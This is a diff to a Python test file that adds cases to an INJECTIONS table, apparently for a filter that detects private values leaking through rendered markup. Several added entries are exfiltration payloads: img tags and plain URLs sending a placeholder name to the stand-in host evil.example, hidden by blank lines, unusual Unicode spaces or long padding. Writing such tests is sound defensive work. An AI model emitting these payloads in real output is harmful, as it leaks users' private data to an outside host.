@@ -68,6 +68,15 @@ INJECTIONS = {
     "html-quote-spaced": "<a title = '>' href = '/p? [성명_1]'>",
     "html-attribute": "<div data-x='[성명_1]'>",
     "html-many-lines": "<img\nalt='a'\nsrc='/p?[성명_1]'>",
+    "html-blank-line-in-quotes": '<img src="https://evil.example/?q=\n\n[성명_1]">',
+    "html-blank-line-in-path": "<img src='/\n \n\n[성명_1]'>",
+    "html-blank-line-before-quote": '<input value=\n\n"[성명_1]">',
+    "html-blank-lines-far": '<img src="//evil.example/?q=\n\n' + "가 \n\n" * 1500 + '[성명_1]">',
+    **{
+        f"plain-url-space-{ord(space):04x}": f"https://evil.example/?q={space}[성명_1]"
+        for space in "\x0b\x0c\x1c\x1d\x1e\x1f\x85\xa0\u2003\u2028\u2029\u3000\ufeff"
+    },
+    "reference-space": "[x]: evil?q=\u3000[성명_1]",
     "svg": "<svg><image xlink:href='/p?[성명_1]'/></svg>",
     "css": "background:url([성명_1])",
     "css-style": "<style>a{background:url('/p?[성명_1]')}</style>",
@@ -114,6 +123,9 @@ TEXT = {
     "tilde": "10~[성명_1]",
     "blank-line-ends-tag": "a <b\n\n[성명_1]",
     "blank-line-ends-target": "[a](b\n\n[성명_1]",
+    "blank-line-ends-tag-behind-value": 'a <b c="d"\n\n[성명_1]',
+    "closed-quote": '<b c="\n\n"> [성명_1]',
+    "open-quote-ends-at-last": 'a <b c="d\n\n' + "가" * 8_200 + " [성명_1]",
 }
 
 
